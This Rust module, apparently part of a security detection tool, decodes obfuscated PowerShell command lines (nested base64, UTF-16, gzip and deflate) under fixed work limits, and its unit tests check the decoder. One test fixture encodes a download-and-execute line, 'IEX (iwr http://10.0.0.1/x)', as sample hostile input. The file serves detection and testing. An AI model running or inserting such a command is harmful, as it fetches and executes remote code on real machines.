//! The texts hidden in a command line: base64, UTF-16, compressed streams, PowerShell string tricks, in any
//! nesting.
//!
//! One [`Decoder`] serves all processes of an action, and bounds the whole: [`MAX_OUTPUT`] bytes of text,
//! [`MAX_LAYERS`] layers, [`MAX_DEPTH`] steps of nesting, and [`MAX_WORK`] bytes produced by attempts,
//! failed ones included. Each pass over a text charges the record's work beforehand.

use std::borrow::Cow;

use super::decode::{base64, compressed, text};
use super::environment::{cut, find_ignoring_case};
use super::{Layer, powershell};
use crate::event::Note;
use crate::work::Work;

/// Most bytes of decoded text for an action.
pub(super) const MAX_OUTPUT: usize = 128 * 1024;
/// Most layers for an action.
pub(super) const MAX_LAYERS: usize = 16;
/// Most decoding steps, one inside the other.
pub(super) const MAX_DEPTH: usize = 6;
/// Most bytes that all attempts together produce.
const MAX_WORK: usize = 512 * 1024;
/// Most base64 candidates looked at in a text.
const MAX_CANDIDATES: usize = 64;
/// Shortest run of base64 digits that is taken for base64 where nothing says so.
const MIN_BLOB: usize = 24;

/// Units that decoding costs for each digit of base64, guesses at the encoding included.
const BASE64_BYTE: usize = 90;
/// Units that looking for base64 costs for each byte of a text.
const SEARCHED_BYTE: usize = 45;
/// Units that a byte of a compressed stream costs, and each that comes out of it.
const INFLATED_BYTE: usize = 40;

/// Holds the rest of an action's decoding budget, and the reason why decoding stopped, if it did.
pub(super) struct Decoder<'w> {
    meter: &'w Work,
    output: usize,
    layers: usize,
    work: usize,
    stopped: Vec<&'static str>,
    /// True if the work that a step would cost was refused.
    spent: bool,
}

/// A base64 text found in another text.
struct Candidate<'a> {
    text: &'a str,
    /// Where it begins.
    start: usize,
    /// True if it is the argument of `FromBase64String`.
    certain: bool,
}

impl<'w> Decoder<'w> {
    pub(super) const fn new(meter: &'w Work) -> Self {
        Self {
            meter,
            output: MAX_OUTPUT,
            layers: MAX_LAYERS,
            work: MAX_WORK,
            stopped: Vec::new(),
            spent: false,
        }
    }

    /// Why decoding stopped, once for each limit.
    pub(super) fn notes(self) -> impl Iterator<Item = Note> {
        let spent = self.spent.then_some(Note::WorkSpent { unread: "decoding" });
        self.stopped.into_iter().map(|why| Note::DecodingStopped(Cow::Borrowed(why))).chain(spent)
    }

    fn stop(&mut self, why: &'static str) {
        if !self.stopped.contains(&why) {
            self.stopped.push(why);
        }
    }

    /// Charges a walk over `bytes`. Returns false, and notes it, when that costs more than is left.
    pub(super) fn pays(&mut self, bytes: usize, units_a_byte: usize) -> bool {
        let paid = self.meter.walk(bytes, units_a_byte);
        self.spent |= !paid;
        paid
    }

    /// Takes a new layer into the list, as far as the budget allows. `false` when nothing more fits.
    fn push(&mut self, layers: &mut Vec<Layer>, how: String, text: String) -> bool {
        if self.layers == 0 {
            self.stop("more than 16 layers");
            return false;
        }
        let same = |layer: &&Layer| layer.text.len() == text.len();
        let compared = layers.iter().filter(same).count();
        if compared > 0 && !self.pays(compared.saturating_mul(text.len()), 3) {
            return false;
        }
        if layers.iter().filter(same).any(|layer| layer.text == text) {
            return true;
        }
        let length = text.len();
        let text = cut(text, self.output);
        if text.len() < length {
            self.stop("more than 128 KiB of decoded text");
        }
        if text.is_empty() {
            return false;
        }
        self.output = self.output.saturating_sub(text.len());
        self.layers = self.layers.saturating_sub(1);
        layers.push(Layer { how, text });
        true
    }

    /// Decodes the value of `-EncodedCommand` into the first layer, and returns the script.
    pub(super) fn encoded_command(&mut self, value: &str, layers: &mut Vec<Layer>) -> Option<String> {
        if !self.pays(value.len(), BASE64_BYTE) {
            return None;
        }
        let bytes = base64::decode(value, self.work);
        self.work = self.work.saturating_sub(bytes.len());
        let (how, script) = text::encoded_command(&bytes);
        if script.is_empty() {
            return None;
        }
        self.push(layers, format!("base64 {how}"), script.clone());
        Some(cut(script, MAX_OUTPUT))
    }

    /// Looks for hidden texts in `initial` and in the layers that are there, then in what it finds, to the
    /// deepest nesting.
    /// `folded` is the initial text with its string tricks folded, where that was done already.
    pub(super) fn search(
        &mut self,
        initial: Option<&str>,
        folded: Option<(Option<String>, bool)>,
        layers: &mut Vec<Layer>,
    ) {
        let mut depths = vec![1_usize; layers.len()];
        if let Some(initial) = initial {
            let folded = folded.unwrap_or_else(|| powershell::folded(initial, self.meter));
            let found = self.look_into(initial, folded);
            self.take(found, 1, initial, layers, &mut depths);
        }
        let mut at = 0_usize;
        while let (Some(layer), Some(&depth)) = (layers.get(at), depths.get(at)) {
            at = at.saturating_add(1);
            let again = layer.how != "folded";
            let folded = if again { powershell::folded(&layer.text, self.meter) } else { (None, false) };
            let found = self.look_into(&layer.text, folded);
            if depth >= MAX_DEPTH && found.iter().any(|layer| layer.how != "folded") {
                self.stop("nested deeper than 6 layers");
                continue;
            }
            self.take(found, depth.saturating_add(1), "", layers, &mut depths);
        }
    }

    fn take(
        &mut self,
        found: Vec<Layer>,
        depth: usize,
        source: &str,
        layers: &mut Vec<Layer>,
        depths: &mut Vec<usize>,
    ) {
        for layer in found {
            // Folding is no step of decoding.
            let depth = if layer.how == "folded" { depth.saturating_sub(1) } else { depth };
            if layer.text != source && !self.push(layers, layer.how, layer.text) {
                return;
            }
            depths.resize(layers.len(), depth);
        }
    }

    /// The texts hidden right in a text.
    fn look_into(&mut self, text: &str, (folded, spent): (Option<String>, bool)) -> Vec<Layer> {
        let mut found = Vec::new();
        if !self.pays(text.len(), SEARCHED_BYTE) {
            return found;
        }
        self.spent |= spent;
        if let Some(folded) = folded {
            found.push(Layer { how: "folded".to_owned(), text: folded });
        }
        let deflate = find_ignoring_case(text, "deflate").is_some();
        for candidate in candidates(text) {
            if self.work == 0 {
                self.stop("too much to decode");
                break;
            }
            found.extend(self.decode(&candidate, deflate));
        }
        found
    }

    /// Decodes one candidate, and what is compressed in it.
    fn decode(&mut self, candidate: &Candidate<'_>, deflate: bool) -> Option<Layer> {
        if !self.pays(candidate.text.len(), BASE64_BYTE) {
            return None;
        }
        let bytes = base64::decode(candidate.text, self.work);
        self.work = self.work.saturating_sub(bytes.len());
        if let Some((how, text)) = text::guess(&bytes) {
            return Some(Layer { how: format!("base64 {how}"), text });
        }
        let raw = deflate || candidate.certain;
        if !self.pays(bytes.len(), INFLATED_BYTE) || !self.meter.spend(compressed::STATE) {
            return None;
        }
        let most = self.meter.left() / INFLATED_BYTE;
        let inflated = compressed::inflate(&bytes, raw, self.work.min(MAX_OUTPUT).min(most))?;
        self.pays(inflated.bytes.len(), INFLATED_BYTE);
        self.work = self.work.saturating_sub(inflated.bytes.len());
        let (how, text) = text::guess(&inflated.bytes)?;
        if inflated.cut {
            self.stop("more than 128 KiB of decoded text");
        }
        Some(Layer { how: format!("base64 {} {how}", inflated.how), text })
    }
}

/// The base64 texts in a text: arguments of `FromBase64String`, and long runs of base64 digits.
fn candidates(text: &str) -> Vec<Candidate<'_>> {
    let mut list = Vec::new();
    named_candidates(text, &mut list);
    let mut start = 0_usize;
    while let Some(rest) = text.as_bytes().get(start..).filter(|rest| !rest.is_empty())
        && list.len() < MAX_CANDIDATES
    {
        let length = base64::DIGITS.run(rest);
        let end = start.saturating_add(length);
        if length >= MIN_BLOB
            && let Some(blob) = text.get(start..end)
            && !list.iter().any(|known| known.start == start)
        {
            list.push(Candidate { text: blob, start, certain: false });
        }
        start = end.saturating_add(1);
    }
    list
}

fn named_candidates<'a>(text: &'a str, list: &mut Vec<Candidate<'a>>) {
    const NAME: &str = "FromBase64String";
    let mut rest = text;
    while let Some(at) = find_ignoring_case(rest, NAME).filter(|_| list.len() < MAX_CANDIDATES) {
        rest = rest.get(at.saturating_add(NAME.len())..).unwrap_or_default();
        let argument = rest.trim_start_matches(|c: char| c.is_whitespace() || "(\"'\\".contains(c));
        let end = base64::HELD.run(argument.as_bytes());
        let Some((argument, behind)) = argument.split_at_checked(end) else { break };
        let start = text.len().saturating_sub(argument.len().saturating_add(behind.len()));
        // Each byte is looked at once, also where one name follows the other.
        rest = behind;
        if argument.len() >= 4 {
            list.push(Candidate { text: argument, start, certain: true });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn layers(text: &str) -> (Vec<(String, String)>, Vec<Note>) {
        let meter = Work::unlimited();
        let mut decoder = Decoder::new(&meter);
        let mut layers = Vec::new();
        decoder.search(Some(text), None, &mut layers);
        (layers.into_iter().map(|l| (l.how, l.text)).collect(), decoder.notes().collect())
    }

    fn b64(text: &str) -> String {
        base64::encode(text.as_bytes())
    }

    #[test]
    fn hidden_texts_are_found() {
        let payload = "IEX (iwr http://10.0.0.1/x)";
        let utf_16 = base64::encode(&text::to_utf_16le(payload));
        let gz = base64::encode(&compressed::gzip(payload.as_bytes()));
        let raw = base64::encode(&miniz_oxide::deflate::compress_to_vec(payload.as_bytes(), 9));
        for (line, how) in [
            (format!("[Convert]::FromBase64String('{utf_16}')"), "base64 utf-16le"),
            (format!("[Convert]::frombase64string( \"{}\" )", b64(payload)), "base64 utf-8"),
            (format!("'{utf_16}' | run"), "base64 utf-16le"),
            (format!("powershell -e {utf_16}"), "base64 utf-16le"),
            (format!("New-Object IO.Compression.GzipStream $x '{gz}'"), "base64 gzip utf-8"),
            (
                format!("DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{raw}'))"),
                "base64 deflate utf-8",
            ),
        ] {
            let (layers, notes) = layers(&line);
            assert_eq!(layers, [(how.to_owned(), payload.to_owned())], "{line}");
            assert_eq!(notes, []);
        }
        assert_eq!(layers("FromBase64String('aWV4IA==')").0, [("base64 utf-8".into(), "iex ".into())]);
    }

    #[test]
    fn what_is_no_base64_is_left_alone() {
        for line in [
            "C/Users/Public/Documents/SomeFolder/Another/File",
            "thisIsJustALongIdentifierWithoutAnyMeaning",
            "0123456789abcdef0123456789abcdef01234567",
            "--token AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "FromBase64String($x)",
            "FromBase64String('",
        ] {
            assert_eq!(layers(line), (vec![], vec![]), "{line}");
        }
    }

    #[test]
    fn nesting_is_followed_to_its_limit() {
        let mut text = "Write-Host 'the innermost script'".to_owned();
        for _ in 0..6 {
            text = format!("FromBase64String('{}')", b64(&text));
        }
        let (found, notes) = layers(&text);
        assert_eq!(found.len(), 6);
        assert_eq!(found[5].1, "Write-Host 'the innermost script'");
        assert_eq!(notes, []);
        let (found, notes) = layers(&format!("FromBase64String('{}')", b64(&text)));
        assert_eq!(found.len(), 6);
        assert_eq!(notes, [Note::DecodingStopped("nested deeper than 6 layers".into())]);
    }

    #[test]
    fn the_number_of_layers_and_their_size_are_bounded() {
        let many: String =
            (0..40).map(|n| format!("'{}' ", b64(&format!("this is script number {n}")))).collect();
        let (found, notes) = layers(&many);
        assert_eq!(found.len(), MAX_LAYERS);
        assert_eq!(notes, [Note::DecodingStopped("more than 16 layers".into())]);

        let bomb = base64::encode(&compressed::gzip(&vec![b'a'; 20_000_000]));
        let (found, notes) = layers(&format!("'{bomb}' '{bomb}x'"));
        assert!(found.iter().map(|(_, text)| text.len()).sum::<usize>() <= MAX_OUTPUT);
        assert_eq!(notes[0], Note::DecodingStopped("more than 128 KiB of decoded text".into()));
    }

    #[test]
    fn many_false_candidates_cost_little() {
        let deflate_bombs: String = (0..2_000)
            .map(|_| {
                format!("deflate {} ", base64::encode(&miniz_oxide::deflate::compress_to_vec(&[7; 9_000], 9)))
            })
            .collect();
        assert_eq!(layers(&deflate_bombs).0, []);
    }
}
